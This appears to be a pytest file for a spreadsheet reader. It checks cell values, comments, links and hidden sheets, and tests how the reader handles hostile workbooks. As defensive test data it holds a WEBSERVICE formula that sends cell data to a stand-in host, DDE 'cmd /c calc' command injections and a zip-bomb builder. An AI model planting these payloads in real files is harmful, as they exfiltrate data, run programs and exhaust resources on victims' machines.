"""Workbooks written by XlsxWriter, and by LibreOffice: values, places, what stands beside them, hostile files."""

from __future__ import annotations

import io
import shutil
import zipfile
from datetime import date, datetime
from typing import Any

import pytest

from muniment.model.reading import Reading
from muniment.read.pool import Job, ReadingPool
from muniment.read.readers.sheet import SheetReader
from tests.read.table.samples_table import (
    XLSX,
    codes,
    converted,
    of_rows,
    part,
    places,
    read_sheet,
    rows_of,
    source,
    text,
    with_parts,
    workbook,
)

needs_soffice = pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice")
SHEET = "xl__worksheets__sheet1_dot_xml"


def village(book: Any) -> None:
    """Two sheets, the second hidden: numbers, dates, a formula, an error, a comment, a link, merged cells."""
    day = book.add_format({"num_format": "yyyy-mm-dd"})
    minute = book.add_format({"num_format": "yyyy-mm-dd hh:mm"})
    sheet = book.add_worksheet("Orin")
    sheet.write_row(1, 1, ["name", "day", "count", "seen"])
    sheet.write_string(2, 1, "Айла з млина")
    sheet.write_datetime(2, 2, date(2024, 5, 3), day)
    sheet.write_number(2, 3, 12.5)
    sheet.write_boolean(2, 4, True)
    sheet.write_string(3, 1, "עדותה של איילה")
    sheet.write_datetime(3, 2, datetime(2024, 5, 3, 7, 30), minute)
    sheet.write_formula(3, 3, "=SUM(D3:D3)", None, 12)
    sheet.write_formula(3, 4, "=1/0", None, "#DIV/0!")
    sheet.write_url(5, 2, "https://example.org/mill", None, "the mill")
    sheet.merge_range(6, 1, 6, 3, "شهادة عائلة")
    sheet.write_comment(3, 1, "Check the name.", {"author": "Borin"})
    hidden = book.add_worksheet("My notes")
    hidden.write_string(0, 0, "not to be shown")
    hidden.hide()
    book.set_properties({"title": "List of Orin", "author": "Ann", "created": datetime(2024, 5, 4)})


VILLAGE = workbook(village)


def test_rows_have_their_places_and_values() -> None:
    reading = read_sheet(VILLAGE)
    assert dict(zip(places(reading), rows_of(reading), strict=True)) == {
        "Orin!B2:E2": ["name", "day", "count", "seen"],
        "Orin!B3:E3": ["Айла з млина", "2024-05-03", "12.5", "TRUE"],
        "Orin!B4:E4": ["עדותה של איילה", "2024-05-03 07:30:00", "12", "#DIV/0!"],
        "Orin!C6": ["the mill"],
        "Orin!B7": ["شهادة عائلة"],
        "'My notes'!A1": ["not to be shown"],
    }
    assert [text(reading, one) for one in reading.passages if one.kind == "heading"] == ["Orin", "My notes"]
    assert (reading.title, reading.author) == ("List of Orin", "Ann")
    assert any(one.what == "created" and one.edtf == "2024-05-04T00:00:00Z" for one in reading.moments)


def test_what_stands_beside_the_values() -> None:
    reading = read_sheet(VILLAGE)
    (comment,) = (one for one in reading.passages if one.kind == "comment")
    assert (text(reading, comment), comment.where, comment.by) == ("Check the name.", "Orin!B4", "Borin")
    (link,) = reading.links
    assert (link.text, link.target) == ("the mill", "https://example.org/mill")
    marks = {one.where: one.marks for one in reading.passages if one.marks}
    assert marks["Orin!B2:E2"] == ("header",)
    assert marks["Orin!B7"] == ("merged B7:D7",)
    assert marks["My notes"] == ("hidden",)
    assert {"formulas", "hidden-sheets"} <= set(codes(reading))
    assert reading.metadata["sheet:Hidden"] == "My notes"


def test_a_link_in_the_middle_of_a_row_stands_on_its_own_words() -> None:
    def fill(book: Any) -> None:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["one", "", "three"])
        sheet.write_url(0, 3, "internal:'Sheet1'!A1", None, "four")
        sheet.write_url(0, 1, "https://example.org/", None, "two")

    reading = read_sheet(workbook(fill))
    assert {one.text: one.target for one in reading.links} == {"two": "https://example.org/", "four": "#'Sheet1'!A1"}
    assert all(reading.text[one.start : one.end] == one.text for one in reading.links)


@needs_soffice
def test_ods_gives_the_same_rows() -> None:
    reading = read_sheet(converted(VILLAGE, "ods"))
    ours = dict(zip(places(reading), rows_of(reading), strict=True))
    theirs = read_sheet(VILLAGE)
    expected = dict(zip(places(theirs), rows_of(theirs), strict=True))
    expected["Orin!B3:E3"][3] = ours["Orin!B3:E3"][3]  # LibreOffice writes a cell that is true as TRUE() or 1
    assert ours == expected
    assert [(one.where, text(reading, one)) for one in reading.passages if one.kind == "comment"] == [
        ("Orin!B4", "Check the name.")
    ]
    assert [one.target for one in reading.links] == ["https://example.org/mill"]
    assert {"formulas", "hidden-sheets"} <= set(codes(reading))
    assert reading.title == "List of Orin"


@needs_soffice
def test_xls_gives_the_same_rows_but_for_errors() -> None:
    reading = read_sheet(converted(VILLAGE, "xls"))
    theirs = read_sheet(VILLAGE)
    expected = dict(zip(places(theirs), rows_of(theirs), strict=True))
    expected["Orin!B4:D4"] = expected.pop("Orin!B4:E4")[:3]
    assert dict(zip(places(reading), rows_of(reading), strict=True)) == expected
    assert "hidden-sheets" in codes(reading)
    assert reading.author == "Ann"


def test_rows_that_are_hidden_are_read_and_said() -> None:
    def fill(book: Any) -> None:
        sheet = book.add_worksheet("Orin")
        sheet.write_row(0, 0, ["name", "phone"])
        sheet.write_row(1, 0, ["Aila", "111"])
        sheet.set_row(1, None, None, {"hidden": True})
        sheet.set_column(1, 1, None, None, {"hidden": True})

    reading = read_sheet(workbook(fill))
    assert rows_of(reading)[1] == ["Aila", "111"]
    (finding,) = (one for one in reading.findings if one.code == "hidden-cells")
    assert "1 rows and 1 groups" in finding.text


def test_formulas_that_reach_out_are_said_and_not_run() -> None:
    def fill(book: Any) -> None:
        sheet = book.add_worksheet("Orin")
        sheet.write_formula(0, 0, '=_xlfn.WEBSERVICE("http://collect.example/?q="&B1)', None, "cached")
        sheet.write_formula(1, 0, "=cmd|'/c calc'!A0", None, "0")

    reading = read_sheet(workbook(fill))
    assert rows_of(reading)[0] == ["cached"]
    (finding,) = (one for one in reading.findings if one.code == "formula-reaches-out")
    assert "collect.example" in finding.text


def test_other_workbooks_and_programs_it_refers_to_are_said() -> None:
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    main = part(VILLAGE, "xl/_rels/workbook.xml.rels").decode()
    link = (
        f'<Relationship Id="x1" Type="{kinds}externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>'
    )
    reading = read_sheet(
        with_parts(
            VILLAGE,
            xl___rels__workbook_dot_xml_dot_rels=main.replace("</Relationships>", link).encode(),
            xl__externalLinks__externalLink1_dot_xml=b"<externalLink xmlns='http://schemas.openxmlformats.org/"
            b"spreadsheetml/2006/main'><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>",
            xl__externalLinks___rels__externalLink1_dot_xml_dot_rels=(
                f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship'
                f' Id="r1" Type="{kinds}externalLinkPath" Target="file:///C:/other.xlsx" TargetMode="External"/>'
                "</Relationships>"
            ).encode(),
        )
    )
    said = " ".join(one.text for one in reading.findings if one.code == "external-reference")
    assert "other.xlsx" in said
    assert "/c calc" in said


def test_macros_are_said_and_handed_out() -> None:
    data = with_parts(VILLAGE, xl__vbaProject_dot_bin=b"\xd0\xcf\x11\xe0 not really")
    given = source(data)
    reading = SheetReader().read(given)
    assert "macros" in codes(reading)
    assert "xl/vbaProject.bin" in [one.path for one, _ in given.collected.parts]


def test_a_comment_in_a_thread_has_its_author_and_time() -> None:
    rels = part(VILLAGE, "xl/worksheets/_rels/sheet1.xml.rels").decode()
    kind = "http://schemas.microsoft.com/office/2017/10/relationships/threadedComment"
    added = f'<Relationship Id="t1" Type="{kind}" Target="../threadedComments/threadedComment1.xml"/></Relationships>'
    names = "xmlns='http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments'"
    thread = f"<ThreadedComments {names}><threadedComment ref='B4' dT='2024-05-05T10:00:00.00' personId='{{1}}'>"
    reading = read_sheet(
        with_parts(
            VILLAGE,
            xl__worksheets___rels__sheet1_dot_xml_dot_rels=rels.replace("</Relationships>", added).encode(),
            xl__threadedComments__threadedComment1_dot_xml=(
                thread + "<text>Is it she?</text></threadedComment></ThreadedComments>"
            ).encode(),
            xl__persons__person_dot_xml=(
                f"<personList {names}><person displayName='Borin' id='{{1}}'/></personList>"
            ).encode(),
        )
    )
    (comment,) = (one for one in reading.passages if one.kind == "comment")
    assert (text(reading, comment), comment.by, comment.at) == ("Is it she?", "Borin", "2024-05-05T10:00:00")


# hostile and broken ---------------------------------------------------------------------------------------------


def test_a_sheet_that_unpacks_without_end_costs_that_sheet_only(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("muniment.read.table.sheetparts.LARGEST", 1 << 20)
    xml = part(VILLAGE, "xl/worksheets/sheet1.xml").replace(b"</sheetData>", b" " * (2 << 20) + b"</sheetData>")
    reading = read_sheet(with_parts(VILLAGE, **{SHEET: xml}))
    assert "sheet-too-large" in codes(reading)
    assert places(reading) == ["'My notes'!A1"]


def test_shared_strings_that_unpack_without_end_are_not_loaded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("muniment.read.table.workbook.LARGEST", 1 << 20)
    xml = part(VILLAGE, "xl/sharedStrings.xml") + b" " * (2 << 20)
    reading = read_sheet(with_parts(VILLAGE, xl__sharedStrings_dot_xml=xml))
    assert "workbook-too-large" in codes(reading)
    assert reading.text == ""


def test_a_real_bomb_is_met_in_the_confined_worker() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(VILLAGE)) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name != "xl/sharedStrings.xml":
                new.writestr(name, old.read(name))
        with new.open("xl/sharedStrings.xml", "w", force_zip64=True) as part_file:
            for _ in range(600):
                part_file.write(bytes(1 << 20))
    with ReadingPool(workers=1) as pool:
        ((_, reading),) = pool.read_all([Job("bomb", XLSX, data=buffer.getvalue())])
    assert "workbook-too-large" in codes(reading)
    assert reading.reader.startswith("sheet/")


def test_cells_too_far_apart_are_not_believed() -> None:
    def fill(book: Any) -> None:
        sheet = book.add_worksheet("Orin")
        sheet.write(0, 0, "here")
        sheet.write(1_048_575, 16_383, "far")
        book.add_worksheet("Tamsk").write(0, 0, "there")

    reading = read_sheet(workbook(fill))
    (finding,) = (one for one in reading.findings if one.code == "sheet-too-large")
    assert finding.where == "Orin"
    assert rows_of(reading) == [["there"]]


def test_a_stray_cell_at_the_bottom_is_no_bomb() -> None:
    def fill(book: Any) -> None:
        sheet = book.add_worksheet("Orin")
        sheet.write_row(0, 0, ["a", "b"])
        sheet.write(1_048_575, 1, "z")

    reading = read_sheet(workbook(fill))
    assert places(reading) == ["Orin!A1:B1", "Orin!B1048576"]


@needs_soffice
def test_rows_repeated_a_million_times_in_ods_are_said() -> None:
    data = converted(VILLAGE, "ods")
    xml = part(data, "content.xml").replace(
        b"<table:table-row ", b'<table:table-row table:number-rows-repeated="1000000" ', 2
    )
    reading = read_sheet(with_parts(data, content_dot_xml=xml))
    assert "rows-repeated" in codes(reading)
    assert 48_000 < len(reading.passages) < 102_000


def test_a_cut_workbook_is_read_as_far_as_it_goes() -> None:
    data = of_rows([["name", "place"], ["Aila", "Orin"]])
    reading = read_sheet(data[: data.find(b"PK\x01\x02")])
    assert rows_of(reading) == [["name", "place"], ["Aila", "Orin"]]
    assert "container-damaged" in codes(reading)


def test_a_damaged_sheet_leaves_the_others() -> None:
    xml = part(VILLAGE, "xl/worksheets/sheet1.xml")
    reading = read_sheet(with_parts(VILLAGE, **{SHEET: xml[: len(xml) // 2]}))
    assert "'My notes'!A1" in places(reading)
    assert codes(reading)


@pytest.mark.parametrize(
    "data", [b"", b"PK\x03\x04", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000), VILLAGE[:200], VILLAGE[:2000]]
)
def test_any_bytes_give_a_reading(data: bytes) -> None:
    for media_type in (XLSX, "application/vnd.ms-excel", "application/vnd.oasis.opendocument.spreadsheet"):
        reading = SheetReader().read(source(data, media_type))
        assert isinstance(reading, Reading)
        assert codes(reading)


def test_the_same_bytes_give_the_same_reading_in_the_worker() -> None:
    with ReadingPool(workers=1) as pool:
        readings = [one for _, one in pool.read_all([Job(str(n), XLSX, data=VILLAGE) for n in range(2)])]
    ours = read_sheet(VILLAGE)
    assert readings[0].text == readings[1].text == ours.text
    assert readings[0].findings == ours.findings


@needs_soffice
def test_all_three_formats_are_read_in_the_worker() -> None:
    files = {
        "application/vnd.oasis.opendocument.spreadsheet": converted(VILLAGE, "ods"),
        "application/vnd.ms-excel": converted(VILLAGE, "xls"),
    }
    with ReadingPool(workers=1) as pool:
        for job, reading in pool.read_all([Job(kind, kind, data=data) for kind, data in files.items()]):
            assert "Айла з млина" in reading.text, job.key
